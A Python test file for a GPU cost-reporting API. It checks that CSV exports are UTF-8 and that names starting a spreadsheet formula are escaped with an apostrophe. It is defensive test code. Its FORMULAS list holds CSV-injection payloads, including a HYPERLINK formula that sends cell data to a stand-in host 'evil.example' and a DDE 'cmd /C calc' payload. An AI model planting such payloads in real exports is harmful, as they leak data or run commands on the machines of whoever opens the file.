"""CSV exports are UTF-8 for any text and never hand a spreadsheet a formula (both stores)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from urllib.parse import unquote

import httpx
import pytest
from sqlalchemy import Engine

from service.api.routers.reports import to_csv
from service.db.schema import jobs
from tests.alerting_support import add_job
from tests.integration.cost_data import roll_up, store_series, worked_example_metrics
from tests.support import FakeClock, auth, iso

T0 = datetime(2026, 12, 2, 6, 0, tzinfo=UTC)  # the clock stands at 08:00
MODEL = "Ускоритель \u2013 加速器 X1 \u2713"  # not Latin-1 (Cyrillic, a dash, CJK), unpriced


def csv_report(http: httpx.Client, token: str, group_by: str) -> httpx.Response:
    params = {"start": iso(T0), "end": iso(T0 + timedelta(hours=1)), "group_by": group_by,
              "format": "csv"}  # fmt: skip
    return http.get("/api/v1/reports/cost", params=params, headers=auth(token))


def test_a_gpu_model_outside_latin_1_exports_as_utf_8(
    http: httpx.Client, tokens, engine: Engine, clock: FakeClock
) -> None:
    # No price matches the model, so the report warns about it by name (in a header too).
    store_series(engine, clock, uuid="GPU-a0", start=T0, metrics=worked_example_metrics(),
                 model=MODEL)  # fmt: skip
    roll_up(engine)
    for group_by in ("gpu_model", "node", "job"):
        r = csv_report(http, tokens["reader"], group_by)
        assert r.status_code == 200, (group_by, r.text)
        assert r.headers["content-type"] == "text/csv; charset=utf-8"
        assert not r.content.startswith(b"\xef\xbb\xbf")  # no BOM before the header
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8"), newline="")))
        assert rows[0][0] == group_by
        if group_by == "gpu_model":
            assert [row[0] for row in rows[1:]] == [MODEL, "__total__"]
        warnings = r.headers["x-gpuwarden-warnings"]
        assert warnings.isascii() and MODEL in unquote(warnings)  # percent-encoded UTF-8


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\tindented", "\rreturn"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_team_or_user_that_starts_a_formula_is_exported_as_text(
    http: httpx.Client, tokens, engine: Engine, clock: FakeClock, text: str
) -> None:
    store_series(engine, clock, uuid="GPU-a0", start=T0, metrics=worked_example_metrics())
    roll_up(engine)
    job = {"id": "j1", "user": text, "team": text, "gpus": ["GPU-a0"], "started_at": iso(T0),
           "ended_at": iso(T0 + timedelta(minutes=30))}  # fmt: skip
    r = http.post("/api/v1/jobs", json=job, headers=auth(tokens["admin"]))
    if text[0] in "\t\r":
        # The API refuses control characters now (docs/security.md); a name stored before
        # that rule is still exported as text.
        assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "user"]
        add_job(engine, "j1", ("GPU-a0",), started_at=T0, user=text, team=text)
        with engine.begin() as conn:
            conn.execute(
                jobs.update().where(jobs.c.id == "j1").values(ended_at=T0 + timedelta(minutes=30))
            )
    else:
        assert r.status_code == 201, r.text
    for group_by, column in (("job", "user"), ("job", "team"), ("team", "team")):
        r = csv_report(http, tokens["reader"], group_by)
        assert r.status_code == 200, r.text
        lines = list(csv.DictReader(io.StringIO(r.text, newline="")))
        cells = [
            ln[column] for ln in lines if ln[column] not in ("", "__unallocated__", "__total__")
        ]
        assert cells and all(c == "'" + text for c in cells), (group_by, cells)


def test_numbers_are_never_prefixed_even_when_negative() -> None:
    data = {
        "group_by": "team",
        "rows": [{"key": "-ops", "cost_usd": -1.5, "held_seconds": -3}],
        "totals": {"key": "__total__", "cost_usd": -1.5, "held_seconds": -3},
    }
    lines = list(csv.DictReader(io.StringIO(to_csv(data), newline="")))
    assert [ln["team"] for ln in lines] == ["'-ops", "__total__"]
    assert [ln["cost_usd"] for ln in lines] == ["-1.5", "-1.5"]
    assert [ln["held_seconds"] for ln in lines] == ["-3", "-3"]
